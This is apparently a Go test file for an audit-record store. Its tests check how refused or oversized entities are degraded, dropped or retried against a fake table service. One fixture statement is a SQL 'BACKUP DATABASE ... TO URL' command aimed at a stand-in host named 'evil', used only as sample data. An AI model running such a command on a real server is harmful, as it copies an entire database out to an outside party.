package store

import (
	"context"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xelwatch/xelwatch/handler/internal/store/storefake"
	"github.com/xelwatch/xelwatch/xel/audit"
)

func newFakeStore(t *testing.T, f *storefake.Tables) *Store {
	t.Helper()
	return New(f.ServiceClient(t), Names{})
}

// refusedRecords are three records of one partition (one transaction),
// the second with a statement of 200,000 characters: about 400 KB as the
// service counts it, which BuildRecord keeps in one entity.
func refusedRecords() []*audit.Record {
	recs := testRecords("f.xel", time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC), 3)
	recs[1].Statement = "BACKUP DATABASE [db1] TO URL = 'https://evil/x.bak' /*" + strings.Repeat("x", 200_000) + "*/ WITH COPY_ONLY"
	return recs
}

// TestUpsertRefusedEntity: the service refuses one entity of a
// transaction for good (a tighter limit than the estimate, a bad value):
// the other rows of the transaction are stored, the refused record is
// stored reduced and flagged, and the call succeeds. With and without the
// failing index in the service's answer.
func TestUpsertRefusedEntity(t *testing.T) {
	for _, noIndex := range []bool{false, true} {
		t.Run(map[bool]string{false: "index named", true: "no index"}[noIndex], func(t *testing.T) {
			f := &storefake.Tables{NoIndex: noIndex, Refuse: func(pk, rk string, body []byte) (int, string) {
				if len(body) > 100_000 {
					return 400, "EntityTooLarge"
				}
				return 0, ""
			}}
			s := newFakeStore(t, f)
			recs := refusedRecords()
			rep, err := s.UpsertRecordsReport(context.Background(), "srv1", "db1", "b", recs)
			if err != nil {
				t.Fatalf("UpsertRecordsReport: %v", err)
			}
			if rep.Rows != 3 || len(rep.Dropped) != 0 || len(rep.Degraded) != 1 {
				t.Fatalf("report %+v, want 3 rows, 1 degraded", rep)
			}
			d := rep.Degraded[0]
			if d.AuditFileOffset != recs[1].AuditFileOffset || d.EventIndex != recs[1].EventIndex || !strings.Contains(d.Reason, "400 EntityTooLarge") {
				t.Errorf("degraded %+v", d)
			}
			for i, rec := range recs {
				ents, _ := BuildRecord("srv1", "db1", "b", time.Now(), rec)
				row := f.Row(ents[0].PartitionKey, ents[0].RowKey)
				if row == nil {
					t.Fatalf("record %d not stored", i)
				}
				deg, _ := row[PropDegraded].(string)
				if i != 1 {
					if row["statement"] != rec.Statement || deg != "" {
						t.Errorf("record %d: stored %q, degraded %q", i, row["statement"], deg)
					}
					continue
				}
				stmt, _ := row["statement"].(string)
				if !strings.Contains(deg, "refused by the table service (status 400 EntityTooLarge)") ||
					len(utf16.Encode([]rune(stmt))) != minimalText || !strings.HasPrefix(rec.Statement, stmt) {
					t.Errorf("refused record stored as %d characters, degraded %q", len(stmt), deg)
				}
				if row["statement_sha256"] != sha256Hex(rec.Statement) || row["statement_length"] != strconv.Itoa(len(rec.Statement)) {
					t.Errorf("refused record: length %v sha %v, want the whole statement's", row["statement_length"], row["statement_sha256"])
				}
			}
		})
	}
}

// TestUpsertRefusedContinuation: a refused continuation entity degrades
// its record (the row no longer claims continuations); the blob goes on.
func TestUpsertRefusedContinuation(t *testing.T) {
	f := &storefake.Tables{Refuse: func(pk, rk string, body []byte) (int, string) {
		if strings.HasSuffix(rk, "|statement|0002") {
			return 400, "PropertyValueTooLarge"
		}
		return 0, ""
	}}
	s := newFakeStore(t, f)
	recs := refusedRecords()
	recs[1].Statement += strings.Repeat("y", 1_000_000) // three continuation entities
	rep, err := s.UpsertRecordsReport(context.Background(), "srv1", "db1", "b", recs)
	if err != nil || rep.Rows != 3 || len(rep.Degraded) != 1 {
		t.Fatalf("report %+v, %v; want 3 rows, 1 degraded", rep, err)
	}
	ents, _ := BuildRecord("srv1", "db1", "b", time.Now(), recs[1])
	row := f.Row(ents[0].PartitionKey, ents[0].RowKey)
	if row == nil || row["statement_chunks"] != nil || !strings.Contains(row[PropDegraded].(string), "PropertyValueTooLarge") {
		t.Fatalf("row of the refused record: %v", keysOf(row))
	}
	raw, _ := json.Marshal(row)
	r, err := decodeRow(raw)
	if err != nil || r.Degraded == "" || len(r.spilled) != 0 {
		t.Fatalf("decodeRow: %+v, %v", r, err)
	}
}

// TestUpsertRefusedEvenReduced: a record whose reduced row is refused too
// is dropped and reported; the others are stored, and the call succeeds.
func TestUpsertRefusedEvenReduced(t *testing.T) {
	f := &storefake.Tables{Refuse: func(pk, rk string, body []byte) (int, string) {
		if strings.Contains(string(body), "POISON") {
			return 400, "InvalidInput"
		}
		return 0, ""
	}}
	s := newFakeStore(t, f)
	recs := refusedRecords()
	recs[2].ObjectName = "POISON"
	rep, err := s.UpsertRecordsReport(context.Background(), "srv1", "db1", "b", recs)
	if err != nil || rep.Rows != 2 || len(rep.Dropped) != 1 || rep.Dropped[0].EventIndex != recs[2].EventIndex {
		t.Fatalf("report %+v, %v; want 2 rows and record 2 dropped", rep, err)
	}
	if !strings.Contains(rep.Dropped[0].Reason, "InvalidInput") {
		t.Errorf("reason %q", rep.Dropped[0].Reason)
	}
	if n, err := s.UpsertRecords(context.Background(), "srv1", "db1", "b", recs); n != 2 || err != nil {
		t.Errorf("UpsertRecords = %d, %v; want 2, nil", n, err)
	}
}

// TestUpsertServiceFailure: a failure of the service (not of one entity)
// is still an error, so the invocation is retried.
func TestUpsertServiceFailure(t *testing.T) {
	for _, tc := range []struct {
		status    int
		code      string
		transient bool
	}{{503, "ServerBusy", true}, {403, "AuthorizationFailure", false}} {
		f := &storefake.Tables{Refuse: func(pk, rk string, body []byte) (int, string) { return tc.status, tc.code }}
		s := newFakeStore(t, f)
		_, err := s.UpsertRecordsReport(context.Background(), "srv1", "db1", "b", refusedRecords())
		if err == nil || IsTransient(err) != tc.transient {
			t.Errorf("%d %s: err = %v, want an error (transient %v)", tc.status, tc.code, err, tc.transient)
		}
		var se *ServiceError
		if !errors.As(err, &se) || se.StatusCode != tc.status {
			t.Errorf("%d: %v", tc.status, err)
		}
	}
}

func keysOf(m map[string]any) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
